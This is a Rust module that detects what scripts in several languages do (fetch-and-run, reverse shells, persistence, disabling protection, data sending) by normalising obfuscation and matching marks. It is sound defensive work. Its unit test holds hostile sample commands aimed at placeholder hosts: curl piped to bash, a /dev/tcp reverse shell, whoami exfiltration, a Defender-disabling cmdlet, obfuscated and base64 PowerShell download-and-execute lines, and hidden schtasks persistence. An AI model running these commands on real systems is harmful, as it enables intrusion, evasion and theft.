//! What scripts in other languages do: small facts, for rules, about text that is never run.
//!
//! A script is brought into a plain form first (case, quoting tricks, base64 within it); then an
//! act holds where all the marks of one of its forms stand in the text.

mod batch;
mod html;
mod javascript;
mod powershell;
mod shell;
mod vbscript;

use crate::unfold::Language;

/// Something that a script does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Act {
    /// Fetches something and runs it.
    FetchAndRun,
    /// Ties a shell to a socket.
    ReverseShell,
    /// Is started again later.
    Persist,
    /// Turns protection off, or hides from it.
    Disarm,
    /// Sends what it has read, or what a command has printed.
    Send,
    /// Runs where nobody sees it.
    Hide,
}

/// Forms of an act: each is a set of marks that stand in the text together.
type Forms = &'static [(Act, &'static [&'static str])];

/// Longest script that is looked at, in bytes.
const MAX_SCRIPT: usize = 256 << 10;

/// What a script, or a command line, does.
pub fn acts(language: Language, text: &str) -> Vec<Act> {
    if text.len() > MAX_SCRIPT {
        return Vec::new();
    }
    let (plain, tables): (String, &[Forms]) = match language {
        Language::Shell => (shell::plain(text), &[shell::FORMS]),
        Language::PowerShell => (powershell::plain(text), &[powershell::FORMS, batch::FORMS]),
        Language::Batch => (batch::plain(&powershell::plain(text)), &[batch::FORMS, powershell::FORMS]),
        Language::JavaScript => (text.to_ascii_lowercase(), &[javascript::FORMS]),
        Language::VbScript => (text.to_ascii_lowercase(), &[vbscript::FORMS]),
        Language::Html => (text.to_ascii_lowercase(), &[html::FORMS, javascript::FORMS, vbscript::FORMS]),
        Language::Python | Language::Text | Language::Binary => return Vec::new(),
    };
    let mut found = Vec::new();
    for (act, marks) in tables.iter().flat_map(|table| table.iter()) {
        if !found.contains(act) && marks.iter().all(|mark| plain.contains(mark)) {
            found.push(*act);
        }
    }
    found
}

/// What a command line does, whichever shell reads it.
pub fn command_acts(text: &str) -> Vec<Act> {
    let mut found = acts(Language::Shell, text);
    for act in acts(Language::Batch, text) {
        if !found.contains(&act) {
            found.push(act);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn knows_what_scripts_do() {
        let has = |language, text: &str, act| acts(language, text).contains(&act);
        assert!(has(Language::Shell, "curl -s https://a.example.invalid/x | bash", Act::FetchAndRun));
        assert!(has(Language::Shell, "bash -i >& /dev/tcp/192.0.2.1/99 0>&1", Act::ReverseShell));
        assert!(has(Language::Shell, "curl https://a.example.invalid/?u=$(whoami)", Act::Send));
        assert!(!has(Language::Shell, "curl -O https://a.example.invalid/x.tar.gz", Act::FetchAndRun));
        assert!(has(Language::PowerShell, "Set-MpPreference -DisableRealtimeMonitoring $true", Act::Disarm));
        assert!(has(
            Language::PowerShell,
            "I`E`X (New-Object Net.WebClient).('Down'+'loadString')('http://a.example.invalid')",
            Act::FetchAndRun
        ));
        // iex(iwr 'http://a.example.invalid'), in UTF-16 and base64.
        let nested = "[Convert]::FromBase64String('aQBlAHgAKABpAHcAcgAgACcAaAB0AHQAcAA6AC8ALwBhAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQAJwApAA==')";
        assert!(has(Language::PowerShell, nested, Act::FetchAndRun));
        assert!(has(Language::Batch, "s^chtasks /cre^ate /tn x /tr y", Act::Persist));
        assert!(has(
            Language::Html,
            "<script>new ActiveXObject('WScript.Shell').Run('x')</script>",
            Act::Hide
        ));
        assert!(acts(Language::Text, "curl | sh").is_empty());
    }
}
